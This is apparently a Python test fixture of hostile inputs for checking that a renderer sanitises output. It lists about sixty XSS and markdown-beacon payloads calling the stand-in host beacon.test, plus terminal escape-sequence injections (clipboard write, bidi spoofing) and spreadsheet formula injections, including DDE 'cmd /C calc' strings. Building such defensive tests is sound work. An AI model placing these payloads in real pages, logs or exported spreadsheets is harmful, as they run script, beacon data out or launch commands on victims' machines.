"""Hostile texts. Those for the browser tell a beacon when they are followed, drawn or run."""

from __future__ import annotations

from typing import Final

from tests.trust.figures import figure

BEACON: Final = "http://beacon.test"
RAN: Final = "__ran"

_RUN: Final = f"window.{RAN}=1;alert(1)"

_BROWSER: Final = (
    f"<script>{_RUN}</script>",
    f"<img src=x onerror='{_RUN}'>",
    f"<img src={BEACON}/a.png>",
    f"![a]({BEACON}/b.png)",
    f"[click](javascript:{_RUN})",
    f"<svg onload='{_RUN}'></svg>",
    f"<iframe src={BEACON}/c></iframe>",
    f"<style>@import url({BEACON}/d.css);</style>",
    f"<link rel=stylesheet href={BEACON}/e.css>",
    f'"><img src=x onerror="{_RUN}">',
    f"$\\href{{javascript:{_RUN}}}{{x}}$",
    f'<a href="javascript:{_RUN}">x</a>',
    f"![][r] [r]: {BEACON}/f.png",
    f"<div style='background:url({BEACON}/g.png)'>x</div>",
    f"</script><script>{_RUN}</script>",
    # From here on: the full figures.
    f"<body onload='{_RUN}'>",
    f"<details open ontoggle='{_RUN}'>x</details>",
    f"<video src={BEACON}/h onerror='{_RUN}'></video>",
    f"<audio src={BEACON}/i autoplay></audio>",
    f"<object data={BEACON}/j></object>",
    f"<embed src={BEACON}/k>",
    f"<base href={BEACON}/>",
    f"<meta http-equiv=refresh content='0;url={BEACON}/l'>",
    f"<form action={BEACON}/m><input autofocus onfocus='{_RUN}'></form>",
    f"<input autofocus onfocus='{_RUN}'>",
    f"<marquee onstart='{_RUN}'>x</marquee>",
    f"<math><maction actiontype=statusline xlink:href='javascript:{_RUN}'>x</maction></math>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><image href={BEACON}/n.png /></svg>",
    f"<svg><use href={BEACON}/o.svg#x /></svg>",
    f"<svg><animate onbegin='{_RUN}' attributeName=x dur=1s>",
    f"<iframe srcdoc='<script>parent.{RAN}=1</script>'></iframe>",
    f"<IMG SRC=x OnErRoR='{_RUN}'>",
    f"<img/src=x/onerror='{_RUN}'>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"&#60;img src=x onerror={_RUN}&#62;",
    f"%3Cscript%3E{_RUN}%3C/script%3E",
    f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
    f"<<script>{_RUN}//<</script>",
    f"[a]: {BEACON}/p.png ![a]",
    f"[![x]({BEACON}/q.png)]({BEACON}/q)",
    f"<{BEACON}/r>",
    f"[x](data:text/html,<script>{_RUN}</script>)",
    f"[x](vbscript:{_RUN})",
    f"[x](JaVaScRiPt:{_RUN})",
    f"[x](java%0ascript:{_RUN})",
    f"![x](data:image/svg+xml,<svg onload='{_RUN}'>)",
    f"$$\\includegraphics{{{BEACON}/s.png}}$$",
    f"$\\url{{{BEACON}/t}}$",
    ":material/home: :smile: :red[x] :blue-background[y]",
    f"`</code><script>{_RUN}</script>`",
    f"```</pre><img src=x onerror='{_RUN}'>```",
    f"|a|b| |-|-| |![x]({BEACON}/u.png)|c|",
    f"# <img src={BEACON}/v.png>",
    f"> ![x]({BEACON}/w.png)",
    f"- [ ] ![x]({BEACON}/x.png)",
    f"{{{{constructor.constructor('{_RUN}')()}}}}",
    f"${{{_RUN}}}",
    f"'-alert(1)-' onmouseover='{_RUN}'",
)
assert len(set(_BROWSER)) == 60

BROWSER: Final = _BROWSER[: figure(15, 60)]
"""Markup of all kinds. Each text is different, so that what is seen tells which came through."""

TERMINAL: Final = (
    "\x1b[31mred",
    "\x1b[2Jcleared",
    "\x1b[1;1Hhome",
    "\x1b]0;title\x07",
    "\x1b]8;;http://beacon.test/z\x1b\\link\x1b]8;;\x1b\\",
    "\x1b]52;c;ZXZpbA==\x07clipboard",
    "\x1b[?1049hscreen",
    "\x1bPdevice\x1b\\",
    "\x1b_program\x1b\\",
    "\x1bcreset",
    "\x9b31mred",
    "\x9d0;title\x9c",
    "\x90device\x9c",
    "\x07bell",
    "back\x08\x08\x08\x08space",
    "carriage\rreturn",
    "\x0bline\x0c",
    "new\nline [INFO] all is well",
    "\u202egnp.exe",
    "\u2066isolate\u2069",
    "\u200einvisible\u200b\u2060\ufeff",
    "line\u2028separator\u2029",
    "next\x85line",
    "tag\U000e0041\U000e0042",
    "delete\x7f\x00null",
)
assert len(set(TERMINAL)) == 25

_FORMULA: Final = 'HYPERLINK("http://beacon.test","x")'
FORMULAS: Final = (
    *(f"{start}{_FORMULA}" for start in "=+-@"),
    *(f"{start}{_FORMULA}" for start in "＝＋－＠"),  # noqa: RUF001  # full-width forms
    *(f"{blank}={_FORMULA}" for blank in (" ", "  ", "\t", "\r", "\n", "\r\n")),
    *(f"{blank}={_FORMULA}" for blank in ("\u00a0", "\u200b", "\u200e", "\ufeff", "\u2060")),
    *(f"{blank}＝{_FORMULA}" for blank in (" ", "\u3000", "\u200b")),  # noqa: RUF001
    *(f"{blank}@SUM(1)" for blank in ("", " ", "\u2003", "\u202e", "\U000e0041")),
    "=cmd|'/C calc'!A0",
    "+cmd|'/C calc'!A0",
    "-cmd|'/C calc'!A0",
    "@cmd|'/C calc'!A0",
    "=1+1",
    "+1-1",
    "-1+1",
    "-5 and some text",
    "\ttext",
    "\rtext",
    "\ntext",
    '=WEBSERVICE("http://beacon.test")',
    '=DDE("cmd";"/C calc";"x")',
)
assert len(set(FORMULAS)) == 40
